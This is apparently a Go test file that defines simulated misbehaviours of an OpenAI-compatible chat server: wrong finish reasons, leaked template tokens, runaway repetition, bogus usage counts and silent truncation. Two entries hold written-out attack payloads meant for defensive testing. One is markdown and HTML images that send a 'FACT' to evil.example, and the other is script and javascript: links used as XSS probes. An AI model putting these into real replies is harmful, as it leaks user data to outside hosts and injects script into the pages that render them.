package openaitest

import (
	"cmp"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"time"
)

// outputBehaviours are models that write other things than an answer, and providers that report wrong numbers.
var outputBehaviours = []Behaviour{
	{Name: "network_error_end", Change: func(_ string, r Request, a Reply) Reply {
		return endingAs(r, a, "network_error")
	}},
	// The provider breaks off an answer that it began.
	{Name: "filter_end", Change: func(_ string, r Request, a Reply) Reply { return endingAs(r, a, "content_filter") }},
	// The reason of each end is in the provider's own words.
	{Name: "end_words", Example: "end_turn", Change: func(word string, r Request, a Reply) Reply { return endingAs(r, a, word) }},
	// The server does not read the model's calls. The argument is the form of the template, see textForms.
	{Name: "text_calls", Example: "hermes", Change: writeCalls},
	// The server leaves the template of gpt-oss in the text, see harmonyForms.
	{Name: "harmony", Example: "full", Change: writeChannels},
	// The model goes on with the marks of its template.
	{Name: "template_end", Example: "</s>", Change: func(marks string, r Request, a Reply) Reply { return adding(r, a, marks) }},
	// The model begins with its own name, as a request shows names.
	{Name: "labels", Change: func(name string, r Request, a Reply) Reply {
		if r.Kind != Chat || len(a.calls) > 0 {
			return a
		}
		return a.WithContent(cmp.Or(name, "Ebb") + ": " + a.text)
	}},
	// The model goes on with the lines of other people. The argument indented puts blanks before them, turn makes a turn of its template.
	{Name: "speaks_for_others", Example: "indented", Change: func(form string, r Request, a Reply) Reply {
		before := map[string]string{"": "\n\n", "indented": "\n\n    ", "turn": "<|im_end|>\n<|im_start|>"}[form]
		behind := map[string]string{"turn": "\n"}[form]
		return adding(r, a, before+lastSpeaker(r)+cmp.Or(behind, ": ")+"好的，那就这样定了\n\nEbb: 不客气")
	}},
	// The model repeats one word until its limit.
	{Name: "repeats", Change: func(_ string, r Request, a Reply) Reply {
		return adding(r, a, "\n\n"+strings.Repeat("发布", 4090)).Finish("length")
	}},
	// The model repeats one sentence until its limit, and counts, or with the argument dates goes from one day to the next.
	{Name: "counts", Example: "dates", Change: func(what string, r Request, a Reply) Reply {
		var b strings.Builder
		for i := range 900 {
			if what == "dates" {
				fmt.Fprintf(&b, "\n%s：张三等待发布完成，并在群里同步了进度。", time.Date(2026, 11, 1+i, 0, 0, 0, 0, time.UTC).Format(time.DateOnly))
			} else {
				fmt.Fprintf(&b, "\n第%d次：等待发布完成。", i+1)
			}
		}
		return adding(r, a, b.String()).Finish("length")
	}},
	// An answer has a table of that many rows, with cells that a spreadsheet would read as formulas.
	{Name: "table", Example: "60", Change: func(rows string, r Request, a Reply) Reply {
		n, err := strconv.Atoi(rows)
		if err != nil || r.Kind != Chat || len(a.calls) > 0 {
			return a
		}
		var b strings.Builder
		b.WriteString("\n\n## 报销明细\n\n| 编号 | 姓名 | 备注 |\n|---|---|---|\n")
		for i := range n {
			fmt.Fprintf(&b, "| %d | 成员%d | =1+%d |\n", i+1, i+1, i+1)
		}
		return adding(r, a, b.String()+"\n以上。")
	}},
	// The summarizer goes on with the talk. With the argument always it does so although it was asked again.
	{Name: "summary_reply", Change: replyToTranscript},
	// An answer shows a picture whose address carries a fact to another host. The page has the same in HTML.
	{Name: "evil_picture", Change: func(_ string, r Request, a Reply) Reply {
		return adding(r, a, "\n\n![s](https://evil.example/p?q=FACT) ![t][e]\n\n[e]: https://evil.example/q")
	}},
	{Name: "html", Change: func(_ string, r Request, a Reply) Reply {
		return adding(r, a, "\n\n<img src=\"https://evil.example/p?q=FACT\"><script>alert(1)</script><a href=\"javascript:alert(1)\">这里</a>")
	}},
	// The server keeps the end of a long request, in tokens, and reports a constant.
	{Name: "cuts_silently", Example: "1500", Cut: cutToEnd, Change: func(most string, r Request, a Reply) Reply {
		n, _ := strconv.Atoi(most)
		prompt, completion := countBytes(r, a)
		return a.Usage(min(prompt, n), 0, completion)
	}},
	{Name: "reports_nothing", Change: func(_ string, _ Request, a Reply) Reply { return a.NoUsage() }},
	{Name: "reports_zero", Change: func(_ string, _ Request, a Reply) Reply { return a.Usage(0, 0, 0) }},
	{Name: "reports_negative", Change: func(_ string, _ Request, a Reply) Reply { return a.Usage(-1, -1, -1) }},
	{Name: "reports_huge", Change: func(_ string, _ Request, a Reply) Reply { return a.Usage(1e9, 1e9, 1e9) }},
	{Name: "cached_apart", Change: func(_ string, r Request, a Reply) Reply {
		prompt, completion := countBytes(r, a)
		return a.Usage(prompt/10, prompt-prompt/10, completion)
	}},
	// Each chunk has the sum so far, and the end none.
	{Name: "cumulative_usage", Change: func(_ string, r Request, a Reply) Reply {
		prompt, _ := countBytes(r, a)
		a.usageAt = func(chunk int) (int, int) { return prompt, (chunk + 1) * a.pieces / 2 }
		return a
	}},
	// Each chunk has its own part, the prompt stands in the first.
	{Name: "usage_per_chunk", Change: func(_ string, r Request, a Reply) Reply {
		prompt, _ := countBytes(r, a)
		a.usageAt = func(chunk int) (int, int) { return prompt * max(0, 1-chunk), a.pieces / 2 }
		return a
	}},
}

// bytesPerToken is that of countBytes.
const bytesPerToken = 3

// cutToEnd keeps the instructions and the last messages, as many as fit, at least the last one.
func cutToEnd(most string, r Request) Request {
	n, _ := strconv.Atoi(most)
	first := 0
	if len(r.Messages) > 0 && r.Messages[0].Role == "system" {
		first = 1
	}
	kept, size := len(r.Messages), 0
	for kept > first {
		size += len(r.Messages[kept-1].Content)/bytesPerToken + 4
		if size > n && kept < len(r.Messages) {
			break
		}
		kept--
	}
	r.Messages = append(slices.Clone(r.Messages[:first]), r.Messages[kept:]...)
	return r
}

// adding puts text behind answers in words to questions.
func adding(r Request, a Reply, text string) Reply {
	if r.Kind != Chat || len(a.calls) > 0 {
		return a
	}
	return a.WithContent(a.text + text)
}

// endingAs changes the reason of answers in words to questions.
func endingAs(r Request, a Reply, reason string) Reply {
	if r.Kind != Chat || len(a.calls) > 0 {
		return a
	}
	return a.Finish(reason)
}
